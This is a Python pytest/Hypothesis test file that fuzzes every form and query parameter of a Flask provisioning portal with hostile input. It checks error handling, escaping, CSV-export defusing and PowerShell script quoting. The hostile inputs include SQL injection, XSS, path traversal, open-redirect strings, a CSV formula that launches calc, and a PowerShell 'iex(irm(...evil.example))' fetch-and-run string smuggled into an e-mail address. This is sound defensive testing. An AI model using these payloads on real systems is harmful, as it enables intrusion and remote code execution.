"""Property-based bad input: every form and every query parameter of the portal, fed random
and hostile text, answers with a page or a 4xx (never a 500 or a stack trace), escapes
whatever it shows again, and saves nothing a refused form carried.

The routes come from the application's URL map: a new route fails
``test_every_route_is_fuzzed`` until it is added to ``FORMS`` or ``PAGES`` below.
Hypothesis runs derandomized (the same examples every run, so CI is deterministic); set
``PORTAL_FUZZ_PROFILE=explore`` for a longer random search on a workstation.
"""

import io
import os
import re
from dataclasses import dataclass, field
from datetime import timedelta
from urllib.parse import quote, urlencode

import pytest
from flask import url_for
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal import api_keys, certificates, invitations, rotation, staff
from portal.extensions import db
from portal.microsoft.clouds import CLOUDS
from portal.models import (
    AuditEvent,
    Configuration,
    Connection,
    Institution,
    Invitation,
    StaffUser,
    Status,
    utcnow,
)
from portal.sync import colours
from portal.validators import ADDRESS, DOMAIN, GUID, has_control_characters
from tests.conftest import CSRF, Wizard, sign_in_staff
from tests.hostile import INJECTIONS, literals, quoted_csv_rows
from tests.hostile import hostile_text as injection_text

settings.register_profile(
    "ci",
    max_examples=12,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
settings.register_profile(
    "explore", settings.get_profile("ci"), max_examples=300, derandomize=False
)
FUZZ = settings.get_profile(os.environ.get("PORTAL_FUZZ_PROFILE", "ci"))

CLIENT_ID = "5b2f8c39-7a1e-4a53-9d0e-3c7f1a2b4c6d"
PASSWORD = "correct horse battery staple"
# Nothing listens here: whatever a route asks of Microsoft fails fast as "unreachable".
NOWHERE = "https://127.0.0.1:9"

# Text that marks reflected input: it must never come back unescaped in a page.
CANARIES = ('<x-canary id="1">', '"x-canary"', "'x-canary'")
HOSTILE = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\n\r\nSet-Cookie: x=1",
    "\x1b[31m\x07\x08\x7f",
    "\u202egnp.exe",
    "\u200b\ufeff",
    "💥" * 40,
    "é" * 20_000,
    "A" * 100_000,
    "' OR 1=1 --",
    "'; DROP TABLE configuration; --",
    "%' OR '%'='",
    "{{7*7}}{% raw %}",
    "${7*7}#{7*7}%s%n",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
    "https://evil.example/",
    "//evil.example",
    "/\\evil.example",
    "/\t/evil.example",
    "../../../etc/passwd",
    "%00%0d%0a%ff",
    "=cmd|'/c calc'!A1",
    "-1",
    "0",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "true",
    "[]",
    '{"a": 1}',
    "72f988bf-86f1-41af-91ab-2d7cd011db47\n",
    "contoso.onmicrosoft.com",
    CLIENT_ID,
    "adele.vance@contoso.edu",
    *CANARIES,
]
TRACE_MARKERS = (
    "Traceback (most recent call last)",
    'File "/',
    "sqlalchemy.",
    "psycopg",
    "jinja2.exceptions",
    "werkzeug.exceptions",
    "Werkzeug Debugger",
    "IntegrityError",
    "OperationalError",
    "KeyError",
    "TypeError",
    "ValueError",
    "AttributeError",
    "UnicodeDecodeError",
)

control_text = st.text(
    alphabet=st.characters(codec="utf-8", categories=("Cc", "Cf", "Zs", "Zl", "So", "Lo")),
    max_size=40,
)
hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=200),
    control_text,
    st.integers().map(str),
    st.floats().map(str),
    st.tuples(st.text(max_size=20), st.sampled_from(CANARIES), st.text(max_size=20)).map("".join),
)


def field_value(choices=()):
    """Missing, one value, or the field given two or three times; sometimes a valid choice."""
    one = st.one_of(hostile_text, st.sampled_from(choices)) if choices else hostile_text
    return st.one_of(st.none(), one, st.lists(one, min_size=2, max_size=3), st.just(FileUpload()))


@dataclass(frozen=True)
class FileUpload:
    """A file where the form expects text (or a file with hostile content and name)."""

    content: bytes = b'adele.vance@contoso.edu\n\xff\xfe\x00<x-canary id="1">\n'
    name: str = '../<x-canary id="1">.csv'


@dataclass(frozen=True)
class Form:
    """A POST route: the browser state it needs and the fields (with valid choices)."""

    context: str
    fields: dict = field(default_factory=dict)


@dataclass(frozen=True)
class Page:
    """A GET route: the browser state it needs and the query parameters it reads."""

    context: str
    params: dict = field(default_factory=dict)
    path_values: tuple = ()  # path parameters that are fuzzed too


FORMS = {
    "setup.open_invitation": Form("anonymous"),
    "setup.fresh_link": Form("anonymous"),
    "setup.administrator_sign_in": Form("anonymous"),
    "setup.method": Form(
        "on_premises",
        {
            "method": ("application", "delegated"),
            "mailbox_scope": ("all", "group"),
            "group_scope_method": ("rbac", "access_policy"),
            "cloud": tuple(CLOUDS),
        },
    ),
    "setup.certificate": Form("on_premises"),
    "setup.generate_certificate": Form("on_premises", {"validity": ("365", "548", "730")}),
    "setup.download_pfx": Form("on_premises", {"password": (PASSWORD,), "confirm": (PASSWORD,)}),
    "setup.register": Form(
        "on_premises", {"outlook_categories": ("y", ""), "follow_group": ("y",)}
    ),
    "setup.tenant": Form(
        "on_premises",
        {
            "tenant_id": ("example.edu", "72f988bf-86f1-41af-91ab-2d7cd011db47"),
            "client_id": (CLIENT_ID,),
            "security_group_email": ("group@example.edu",),
        },
    ),
    "setup.verify": Form(
        "on_premises",
        {"test_mailbox": ("a@example.edu",), "outside_mailbox": ("b@example.edu",)},
    ),
    "setup.verify_sign_in": Form("delegated"),
    "setup.admin_consent": Form("delegated"),
    "setup.rotation": Form("approved"),
    "setup.mailboxes": Form("approved", {"addresses": ("a@contoso.edu",), "upload": ()}),
    "setup.mailboxes_from_group": Form("approved"),
    "setup.remove_mailboxes": Form(
        "approved",
        {
            "connection": ("1",),
            "only": ("1",),
            "remove": ("events", "calendar"),
            "confirmed": ("yes",),
        },
    ),
    "setup.group_following": Form(
        "approved", {"follow_group": ("y", ""), "leaver_removal": ("events", "calendar")}
    ),
    "setup.decide_held_removals": Form(
        "approved", {"pass_id": ("1",), "decision": ("confirm", "cancel")}
    ),
    "setup.submit": Form("managed"),
    "connect.sign_in": Form("connect", {"login_hint": ("adele.vance@contoso.edu",)}),
    "connect.sync_now": Form("connect"),
    "connect.disconnect": Form("connect", {"remove_calendar": ("y",)}),
    "connect.organisation_consent": Form("connect"),
    "connect.sign_out": Form("connect"),
    "support.sign_in": Form(
        "anonymous", {"email": ("support@mytimetable.example",), "password": (PASSWORD,)}
    ),
    "support.enrol": Form("enrolling", {"code": ("123456",)}),
    "support.second_factor": Form("second_factor", {"code": ("123456", "abcde-fghij")}),
    "support.sign_out": Form("staff"),
    "support.verify": Form("staff"),
    "support.approve": Form("staff", {"confirmed": ("yes",)}),
    "support.return_for_changes": Form(
        "staff", {"message": ("Please change the tenant.",), "step": ("tenant", "method")}
    ),
    "support.mailboxes": Form("staff", {"addresses": ("a@contoso.edu",)}),
    "support.remove_mailboxes": Form(
        "staff",
        {
            "connection": ("1",),
            "only": ("1",),
            "remove": ("events", "calendar"),
            "confirmed": ("yes",),
        },
    ),
    "support.decide_held_removals": Form(
        "staff", {"pass_id": ("1",), "decision": ("confirm", "cancel")}
    ),
    "support.feed": Form(
        "staff", {"feed_url_template": ("https://mytimetable.example.edu/ical?user={upn}",)}
    ),
    "support.institutions": Form(
        "staff",
        {
            "name": ("New University",),
            "hosting": ("managed", "on_premises"),
            "contact_email": ("it@new.edu",),
        },
    ),
    "support.institution_settings": Form(
        "staff",
        {
            "time_zone": ("Europe/Amsterdam", ""),
            "service_desk": ("https://help.contoso.edu/", "it@contoso.edu"),
            "reconnect_email": ("y",),
            "colours": ("Lecture = Blue\nExam = preset0", ""),
        },
    ),
    "support.reissue": Form("staff", {"confirmed": ("yes",)}),
    "support.revoke": Form("staff", {"confirmed": ("yes",)}),
    "support.rotate": Form("staff", {"confirmed": ("yes",)}),
    "support.api_keys_page": Form("staff", {"name": ("MyTimetable production",)}),
    "support.revoke_api_key": Form("staff"),
    "api.sync_now": Form("api"),
    "api.batch": Form("api", {"add": ("a@example.edu",), "remove": ("b@example.edu",)}),
}

CALLBACK = (
    "code",
    "state",
    "error",
    "error_description",
    "error_uri",
    "error_codes",
    "admin_consent",
    "tenant",
    "scope",
    "session_state",
    "client_info",
    "id_token",
)
PAGES = {
    "index": Page("anonymous"),
    "healthz": Page("anonymous"),
    "metrics": Page("anonymous"),  # 404 without PORTAL_METRICS_TOKEN; tokens: test_metrics
    "static": Page("anonymous", path_values=("filename",)),
    "language": Page("anonymous", {"next": ("/setup/",)}, path_values=("code",)),
    "connect.start": Page("connect", {"login_hint": ("adele.vance@contoso.edu",)}, ("slug",)),
    "connect.status": Page("connect", {}, ("slug",)),
    "connect.organisation_consent": Page("connect"),
    "connect.callback": Page("connect", dict.fromkeys(CALLBACK, ())),
    "setup.open_invitation": Page("anonymous", {"to": ("rotation",)}, ("token",)),
    "setup.resume": Page("on_premises"),
    "setup.start": Page("on_premises"),
    "setup.method": Page("on_premises"),
    "setup.certificate": Page("on_premises"),
    "setup.download_certificate": Page("on_premises"),
    "setup.register": Page("on_premises"),
    "setup.download_script": Page("on_premises"),
    "setup.tenant": Page("on_premises"),
    "setup.verify": Page("on_premises"),
    "setup.review": Page("managed"),
    "setup.export_configuration": Page("on_premises"),
    "setup.rotation": Page("approved"),
    "setup.download_new_certificate": Page("approved"),
    "setup.mailboxes": Page("approved", {"q": ("adele",), "page": ("1", "2")}),
    "setup.export_mailboxes": Page("approved", {"q": ("adele",)}),
    "support.sign_in": Page("anonymous"),
    "support.enrol": Page("enrolling"),
    "support.second_factor": Page("second_factor"),
    "support.recovery_codes": Page("staff"),
    "support.queue": Page(
        "staff",
        {
            "status": tuple(Status),
            "method": ("application", "delegated"),
            "hosting": ("managed", "on_premises"),
            "q": ("contoso",),
            "page": ("1", "2"),
        },
    ),
    "support.configuration": Page(
        "staff", {"audit_page": ("2",), "mailboxes_page": ("2",), "q": ("contoso",)}
    ),
    "support.institutions": Page("staff", {"q": ("example",), "page": ("1", "2")}),
    "support.institution_settings": Page("staff"),
    "support.certificates": Page("staff", {"page": ("2",)}),
    "support.outbox": Page("staff", {"page": ("2",)}),
    "support.confirm_approve": Page("staff"),
    "support.confirm_reissue": Page("staff"),
    "support.confirm_revoke": Page("staff"),
    "support.confirm_rotation": Page("staff"),
    "support.export": Page("staff"),
    "support.export_mailboxes": Page("staff", {"q": ("adele",)}),
    "support.api_keys_page": Page("staff"),
    "api.Mailboxes": Page(
        "api", {"state": ("connected", "disconnected"), "page": ("1", "2"), "per_page": ("10",)}
    ),
    "api.MailboxResource": Page("api", {"remove_calendar": ("true",)}, ("address",)),
    "api.problem_type": Page("anonymous", {}, ("kind",)),
    "api-docs.openapi_json": Page("anonymous"),
}


@dataclass
class Context:
    """A browser in a given state: its client, CSRF token and the values for URLs."""

    client: object
    token: str
    values: dict


class Portal:
    """The portal with an institution in every state a route needs, made on first use."""

    def __init__(self, app):
        self.app = app
        self.contexts: dict[str, Context] = {}
        with app.app_context():
            certificates.create_vendor_certificate(365, "test")
            db.session.commit()
        runner = app.test_cli_runner()
        result = runner.invoke(
            args=["staff", "create", "support@mytimetable.example"],
            input=f"{PASSWORD}\n{PASSWORD}\n",
        )
        assert result.exit_code == 0, result.output

    def context(self, name: str) -> Context:
        if name not in self.contexts:
            self.contexts[name] = getattr(self, f"_make_{name}")()
        return self.contexts[name]

    def _institution(self, name: str, hosting: str) -> str:
        with self.app.app_context():
            institution = invitations.create_institution(name, hosting, "it@example.edu", "t")
            link = invitations.issue_invitation(institution, "test")
            db.session.commit()
        return link

    def _wizard(self, name: str, hosting: str, method: str) -> Wizard:
        wizard = Wizard(self.app.test_client())
        wizard.open(self._institution(name, hosting))
        wizard.to_tenant(method)
        wizard.enter_tenant("example.edu", CLIENT_ID)
        return wizard

    def _update(self, name: str, **values) -> Configuration:
        with self.app.app_context():
            configuration = (
                db.session.query(Configuration).join(Institution).filter_by(name=name).one()
            )
            for key, value in values.items():
                setattr(configuration, key, value)
            db.session.commit()
            return configuration.id

    def _make_anonymous(self) -> Context:
        client = self.app.test_client()
        token = CSRF.search(client.get("/support/sign-in").text).group(1)
        link = self._institution("Anonymous College", "on_premises")
        return Context(client, token, {"token": link.rsplit("/", 1)[1], "code": "nl"})

    def _make_on_premises(self) -> Context:
        wizard = self._wizard("Example College", "on_premises", "application")
        self._update("Example College", verified_at=utcnow(), step_reached=6)
        return Context(wizard.client, wizard.csrf(), {"fmt": "pem", "name": "rbac"})

    def _make_delegated(self) -> Context:
        wizard = self._wizard("Delegated College", "on_premises", "delegated")
        return Context(wizard.client, wizard.csrf(), {})

    def _make_managed(self) -> Context:
        wizard = self._wizard("Example University", "managed", "application")
        self._update("Example University", verified_at=utcnow(), step_reached=6)
        return Context(wizard.client, wizard.csrf(), {})

    def _make_approved(self) -> Context:
        wizard = self._wizard("Approved University", "managed", "application")
        self._update(
            "Approved University",
            verified_at=utcnow(),
            step_reached=6,
            status=Status.APPROVED,
            security_group_email="group@example.edu",
            test_mailbox="a@example.edu",
        )
        with self.app.app_context():
            rotation.start("test")
        return Context(wizard.client, wizard.csrf(), {"fmt": "cer"})

    def _make_api(self) -> Context:
        """MyTimetable calling the provisioning API with the approved institution's key."""
        self.context("approved")
        with self.app.app_context():
            institution = db.session.query(Institution).filter_by(name="Approved University")
            _, key = api_keys.create(institution.one(), "MyTimetable", "test")
            db.session.commit()
        client = self.app.test_client()
        client.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {key}"
        return Context(client, "no-csrf-token", {"address": "a@example.edu"})

    def _make_connect(self) -> Context:
        self._wizard("Connect University", "managed", "delegated")
        configuration_id = self._update(
            "Connect University", verified_at=utcnow(), step_reached=6, status=Status.APPROVED
        )
        with self.app.app_context():
            connection = Connection(configuration_id=configuration_id, upn="adele@example.edu")
            db.session.add(connection)
            db.session.commit()
            connection_id = connection.id
            slug = db.session.get(Configuration, configuration_id).institution.slug
        client = self.app.test_client()
        with client.session_transaction() as session:
            session["connection_id"] = connection_id
        token = CSRF.search(client.get(f"/connect/{slug}").text).group(1)
        return Context(client, token, {"slug": slug})

    def _make_staff(self) -> Context:
        managed = self.context("managed")
        managed.client.post("/setup/submit", data={"csrf_token": managed.token})
        client = self.app.test_client()
        sign_in_staff(client, "support@mytimetable.example", PASSWORD)
        token = CSRF.search(client.get("/support/institutions").text).group(1)
        with self.app.app_context():
            configuration = (
                db.session.query(Configuration)
                .join(Institution)
                .filter_by(name="Example University")
                .one()
            )
            invitation = db.session.query(Invitation).first()
            key, _ = api_keys.create(configuration.institution, "MyTimetable", "test")
            db.session.commit()
            values = {
                "configuration_id": configuration.id,
                "institution_id": configuration.institution_id,
                "invitation_id": invitation.id,
                "key_id": key.id,
                "action": "check",
                "fmt": "csv",
            }
        return Context(client, token, values)

    def _password_step(self, email: str) -> Context:
        """A browser whose password was right, at the step that asks for a code."""
        client = self.app.test_client()
        token = CSRF.search(client.get("/support/sign-in").text).group(1)
        step = client.post(
            "/support/sign-in", data={"csrf_token": token, "email": email, "password": PASSWORD}
        ).location
        return Context(client, CSRF.search(client.get(step).text).group(1), {})

    def _make_enrolling(self) -> Context:
        with self.app.app_context():
            staff.create_staff("new@mytimetable.example", PASSWORD)
            db.session.commit()
        return self._password_step("new@mytimetable.example")

    def _make_second_factor(self) -> Context:
        self.context("staff")  # enrolled at its first sign-in
        return self._password_step("support@mytimetable.example")

    def snapshot(self) -> dict:
        """What a refused request must leave as it was."""
        with self.app.app_context():

            def rows(model, skip=("updated_at", "last_used_at")):
                return sorted(
                    tuple(
                        (c.name, getattr(row, c.name))
                        for c in model.__table__.columns
                        if c.name not in skip
                    )
                    for row in db.session.query(model)
                )

            return {
                "configurations": rows(Configuration),
                "institutions": rows(Institution),
                "invitations": rows(Invitation),
                "staff": rows(StaffUser),
                "audit": [(e.actor, e.action) for e in db.session.query(AuditEvent)],
            }

    def check_saved_values(self):
        """Whatever was saved follows the forms' rules and fits its column (PostgreSQL
        refuses a value longer than the column where SQLite keeps it)."""
        with self.app.app_context():
            for model in db.Model.__subclasses__():
                for column in model.__table__.columns:
                    length = getattr(column.type, "length", None)
                    if not length:
                        continue
                    for (value,) in db.session.query(getattr(model, column.key)):
                        assert value is None or len(value) <= length, (column, value)
            for c in db.session.query(Configuration):
                assert c.method in (None, "application", "delegated")
                assert c.cloud in CLOUDS
                assert c.tenant_id is None or GUID.match(c.tenant_id) or DOMAIN.match(c.tenant_id)
                assert c.client_id is None or GUID.match(c.client_id)
                for address in (c.security_group_email, c.test_mailbox, c.outside_mailbox):
                    assert not address or ADDRESS.match(address), address
                assert c.group_scope_method in ("rbac", "access_policy")
                assert c.feed_url_template is None or (
                    c.feed_url_template.startswith(("https://", "http://"))
                    and "{upn}" in c.feed_url_template
                    or "{email}" in c.feed_url_template
                )
                assert c.review_message is None or 0 < len(c.review_message) <= 4000
            for i in db.session.query(Institution):
                assert i.name.strip() and len(i.name) <= 200
                assert not has_control_characters(i.name), i.name
                assert ADDRESS.match(i.contact_email)
                assert i.hosting in ("managed", "on_premises")
                for name, value in (i.category_colours or {}).items():
                    assert colours.preset(value) == value, value
                    assert name.strip() == name and 0 < len(name) <= colours.MAX_NAME
                    assert not has_control_characters(name), name


@pytest.fixture
def portal(make_app):
    """The portal, with Microsoft unreachable and the staff sign-in limits out of the way."""
    app = make_app(
        AUTHORITY_HOST=NOWHERE,
        GRAPH_ENDPOINT=NOWHERE,
        SIGNIN_LIMIT="10000 per minute",
        SIGNIN_ADDRESS_LIMIT="10000 per minute",
    )
    return Portal(app)


def _routes(app, method: str) -> set[str]:
    return {
        rule.endpoint
        for rule in app.url_map.iter_rules()
        if method in rule.methods and rule.endpoint
    }


def test_every_route_is_fuzzed(app):
    assert _routes(app, "POST") - set(FORMS) == set()
    assert _routes(app, "GET") - set(PAGES) == set()


def _rule(app, endpoint: str, method: str):
    """The route's rule; a route another change has not brought in yet is skipped."""
    for rule in app.url_map.iter_rules():
        if rule.endpoint == endpoint and method in rule.methods:
            return rule
    pytest.skip(f"{endpoint} is not a {method} route of this portal")


def check_response(response, sent: list[str]):
    """Never a 500 or a stack trace; nothing sent comes back unescaped."""
    assert response.status_code != 500
    assert response.status_code < 500 or response.status_code in (502, 503)
    if response.mimetype not in ("text/html", "text/plain", "application/json"):
        return
    body = response.get_data(as_text=True)
    for marker in TRACE_MARKERS:
        assert marker not in body, marker
    if response.mimetype == "text/html":
        for canary in CANARIES:
            if any(canary in value for value in sent):
                assert canary not in body, f"{canary} is shown unescaped"
    if response.status_code in (301, 302, 303, 307, 308):
        location = response.headers["Location"]
        # Werkzeug's redirect for a path with doubled slashes names the portal's own origin.
        local = location.startswith("/") and not location.startswith(("//", "/\\"))
        local = local or location.startswith("http://localhost/")
        assert local or location.startswith(NOWHERE + "/"), location


def _sent(values) -> list[str]:
    flat = []
    for value in values:
        if isinstance(value, list):
            flat.extend(v for v in value if isinstance(v, str))
        elif isinstance(value, str):
            flat.append(value)
    return flat


def _form_data(fields: dict, token_choice, token: str):
    data, files = {}, False
    for name, value in fields.items():
        if value is None:
            continue
        if isinstance(value, FileUpload):
            data[name] = (io.BytesIO(value.content), value.name)
            files = True
        else:
            data[name] = value
    if token_choice == "valid":
        data["csrf_token"] = token
    elif token_choice == "twice":
        data["csrf_token"] = [token, "forged"]
    elif token_choice is not None:
        data["csrf_token"] = token_choice
    return data, files


token_choices = st.one_of(
    st.just("valid"), st.just("valid"), st.just("valid"), st.none(), st.just("twice"), hostile_text
)


@pytest.mark.parametrize("endpoint", sorted(FORMS))
@FUZZ
@given(data=st.data())
def test_forms_survive_hostile_input(portal, endpoint, data):
    form = FORMS[endpoint]
    app = portal.app
    rule = _rule(app, endpoint, "POST")
    context = portal.context(form.context)
    with app.test_request_context():
        path = url_for(endpoint, **{k: context.values[k] for k in rule.arguments})
    fields = {
        name: data.draw(field_value(choices), label=name) for name, choices in form.fields.items()
    }
    fields |= data.draw(
        st.dictionaries(st.sampled_from(["extra", "id", "status", "csrf"]), hostile_text),
        label="extra fields",
    )
    token_choice = data.draw(token_choices, label="csrf token")
    body_kind = data.draw(st.sampled_from(["form", "form", "form", "json", "raw"]), label="body")
    before = portal.snapshot()
    if body_kind == "form":
        payload, _ = _form_data(fields, token_choice, context.token)
        response = context.client.post(path, data=payload)
    elif body_kind == "json":
        response = context.client.post(path, json={k: str(v) for k, v in fields.items()})
    else:
        raw = b"&".join(
            quote(k).encode() + b"=" + b"%ff%fe\xff\x00" + quote(str(v)[:500]).encode()
            for k, v in fields.items()
        )
        response = context.client.post(
            path,
            data=raw + b"&csrf_token=" + context.token.encode(),
            content_type="application/x-www-form-urlencoded",
        )
    check_response(response, _sent(fields.values()))
    if response.status_code >= 400:
        after = portal.snapshot()
        assert after["configurations"] == before["configurations"]
        assert after["institutions"] == before["institutions"]
        assert after["staff"] == before["staff"]
        new_events = after["audit"][len(before["audit"]) :]
        assert all(action.endswith("_failed") for _, action in new_events), new_events
    portal.check_saved_values()


def _path_value(app, endpoint, context, name, draw):
    if name in context.values and name not in PAGES[endpoint].path_values:
        return context.values[name]
    return draw(st.one_of(st.just(context.values.get(name, "x")), hostile_text), label=name)


@pytest.mark.parametrize("endpoint", sorted(PAGES))
@FUZZ
@given(data=st.data())
def test_pages_survive_hostile_query_parameters(portal, endpoint, data):
    page = PAGES[endpoint]
    app = portal.app
    rule = _rule(app, endpoint, "GET")
    context = portal.context(page.context)
    path = rule.rule
    for name in sorted(rule.arguments):
        value = _path_value(app, endpoint, context, name, data.draw)
        value = str(value).replace("\x00", "") or "x"
        path = re.sub(rf"<(?:[^:>]+:)?{name}>", quote(value, safe=""), path)
    params = {
        name: data.draw(field_value(choices), label=name) for name, choices in page.params.items()
    }
    params |= data.draw(
        st.dictionaries(st.sampled_from(["next", "page", "format", "x"]), hostile_text),
        label="extra parameters",
    )
    pairs = []
    for name, value in params.items():
        for one in value if isinstance(value, list) else [value]:
            if isinstance(one, str):
                pairs.append((name, one))
    response = context.client.get(path + "?" + urlencode(pairs))
    check_response(response, [path, *(v for _, v in pairs)])
    portal.check_saved_values()


PENDING = (
    "admin_consent:setup",
    "admin_consent:connect",
    "sign_in:verify",
    "sign_in:connect",
    "sign_in:return",
)


def _pending(portal, kind: str) -> tuple[Context, str]:
    """A browser whose session waits for Microsoft's answer to a request of ``kind``."""
    request, purpose = kind.split(":")
    context = portal.context("delegated" if purpose in ("setup", "verify") else "connect")
    with portal.app.app_context():
        name = "Delegated College" if purpose in ("setup", "verify") else "Connect University"
        configuration_id = (
            db.session.query(Configuration).join(Institution).filter_by(name=name).one().id
        )
    state = "pending-state"
    if request == "admin_consent":
        value = {"state": state, "configuration_id": configuration_id, "purpose": purpose}
    else:
        flow = {
            "state": state,
            "redirect_uri": "http://localhost/connect/callback",
            "scope": ["https://graph.microsoft.com/Calendars.ReadWrite"],
            "auth_uri": NOWHERE + "/authorize",
            "code_verifier": "v" * 43,
            "nonce": "n" * 20,
            "claims_challenge": None,
        }
        value = {"purpose": purpose, "flow": flow, "configuration_id": configuration_id}
        if purpose == "verify":
            value["run_id"] = "00000000-0000-0000-0000-000000000000"
        if purpose == "return":
            # An administrator back from signing in on an expired link's page.
            portal.app.config.update(SIGNIN_CLIENT_ID=CLIENT_ID, SIGNIN_CREDENTIAL="secret")
            with portal.app.app_context():
                configuration = db.session.get(Configuration, configuration_id)
                configuration.tenant_guid = "72f988bf-86f1-41af-91ab-2d7cd011db47"
                invitation = configuration.institution.invitations[0]
                invitation.expires_at = utcnow() - timedelta(days=1)
                value["invitation_id"] = invitation.id
                db.session.commit()
    with context.client.session_transaction() as session:
        session[request] = value
    return context, state


@pytest.mark.parametrize("kind", PENDING)
@FUZZ
@given(data=st.data())
def test_callback_answers_to_a_pending_request_survive_hostile_parameters(portal, kind, data):
    context, state = _pending(portal, kind)
    params = {
        name: data.draw(field_value(), label=name)
        for name in ("code", "error", "error_description", "error_codes", "admin_consent", "tenant")
    }
    params["state"] = data.draw(st.one_of(st.just(state), field_value()), label="state")
    pairs = []
    for name, value in params.items():
        for one in value if isinstance(value, list) else [value]:
            if isinstance(one, str):
                pairs.append((name, one))
    before = portal.snapshot()
    response = context.client.get("/connect/callback?" + urlencode(pairs))
    check_response(response, [v for _, v in pairs])
    new_events = portal.snapshot()["audit"][len(before["audit"]) :]
    if response.status_code >= 400:
        assert all(not action.endswith("_granted") for _, action in new_events), new_events
    portal.check_saved_values()


# A spreadsheet runs a cell that starts with one of these as a formula (OWASP, CSV
# Injection), also where a separator it splits on (";" in Dutch Excel, ",") came just before,
# with spaces or quotes between.
FORMULA = re.compile(r"""(^|[;,])[ "]*[=+\-@\t\r]""")


@pytest.fixture
def console(make_app):
    """The portal and a signed-in staff member's browser on its console."""
    app = make_app()
    runner = app.test_cli_runner()
    result = runner.invoke(
        args=["staff", "create", "support@mytimetable.example"],
        input=f"{PASSWORD}\n{PASSWORD}\n",
    )
    assert result.exit_code == 0, result.output
    client = app.test_client()
    assert sign_in_staff(client, "support@mytimetable.example", PASSWORD).status_code == 302
    return app, client


def _check_csv_export(app, client, values: list[str]):
    """Rows whose free-text cells hold ``values`` (stored as older rules may have let them in)
    come out quoted, defused, and otherwise as they were."""
    with app.app_context():
        db.session.query(Configuration).delete()
        db.session.query(Institution).delete()
        for n, value in enumerate(values):
            value = value.replace("\x00", "")[:200]  # PostgreSQL stores no NUL in text
            institution = Institution(
                name=value, slug=f"hostile-{n}", hosting="managed", contact_email="a@b.edu"
            )
            institution.configuration = Configuration(
                method="application",  # an address stored before step 1 asked: the group
                tenant_guid=f"00000000-0000-0000-0000-{n:012d}",
                tenant_id=value,
                client_id=value[:36],
                security_group_email=value,
                reviewed_by=value,
            )
            db.session.add(institution)
        db.session.commit()
    response = client.get("/support/export.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    header, *rows = quoted_csv_rows(text)
    assert len(rows) == len(values)
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        n = int(cells["tenant_guid"].rsplit("-", 1)[1])
        value = values[n].replace("\x00", "")[:200]
        for column, original in (
            ("institution", value),
            ("tenant_id", value),
            ("client_id", value[:36]),
            ("security_group_email", value),
            ("reviewed_by", value),
        ):
            cell = cells[column]
            assert not FORMULA.search(cell), (column, cell)
            # The defusing adds one ' before each formula start and changes nothing else.
            assert cell.replace("'", "") == original.replace("'", ""), (column, cell)
            assert len(cell) == len(original) + len(FORMULA.findall(original)), (column, cell)


def test_the_csv_export_quotes_and_defuses_hostile_cells(console):
    _check_csv_export(*console, [v for v in INJECTIONS if v] + HOSTILE[:12])


@FUZZ
@given(values=st.lists(injection_text, min_size=1, max_size=5))
def test_the_csv_export_defuses_generated_hostile_cells(console, values):
    _check_csv_export(*console, values)


# The group address that became code in the administrator's Exchange Online session.
ISSUE_GROUP = "a\u2019;iex(irm(\u2019https://evil.example/x\u2019));\u2019@contoso.edu"


def test_the_group_address_that_ran_code_is_refused_with_a_message(app, wizard, invitation):
    wizard.open(invitation["managed"])
    wizard.to_tenant("application", group=True)
    response = wizard.enter_tenant("example.edu", CLIENT_ID, group=ISSUE_GROUP)
    assert response.status_code == 400
    assert "e-mail address, such as mytimetable@example.edu" in response.text
    with app.app_context():
        configuration = (
            db.session.query(Configuration)
            .join(Institution)
            .filter_by(name="Example University")
            .one()
        )
        assert (configuration.client_id, configuration.security_group_email) == (None, None)


def test_the_console_refuses_an_institution_name_with_a_line_break(console):
    app, client = console
    token = CSRF.search(client.get("/support/institutions").text).group(1)
    response = client.post(
        "/support/institutions",
        data={
            "csrf_token": token,
            "name": "Evil\noffice365.authority=https://evil.example/",
            "hosting": "on_premises",
            "contact_email": "it@evil.example",
        },
    )
    assert response.status_code == 400
    assert "control characters" in response.text
    with app.app_context():
        assert db.session.query(Institution).count() == 0


def test_quotes_in_a_name_and_a_group_stay_strings_in_the_downloaded_scripts(app, wizard):
    name = "O\u2019Brien \u2018College\u2019; iex(irm(\u2018https://evil.example/\u2019))"
    group = "o'brien.staff@contoso.edu"
    with app.app_context():
        certificates.create_vendor_certificate(365, "test")
        institution = invitations.create_institution(name, "managed", "it@contoso.edu", "t")
        link = invitations.issue_invitation(institution, "test")
        db.session.commit()
    wizard.open(link)
    wizard.to_tenant("application", group=True)
    assert wizard.enter_tenant("example.edu", CLIENT_ID, group=group).status_code == 302
    for script in ("rbac", "access-policy"):
        response = wizard.client.get(f"/setup/scripts/{script}.ps1")
        assert response.status_code == 200
        values, code = literals(response.get_data(as_text=True))
        assert group in values and CLIENT_ID in values
        assert "iex" not in code and "evil" not in code
        if script == "rbac":
            assert f"MyTimetable - {name}" in values
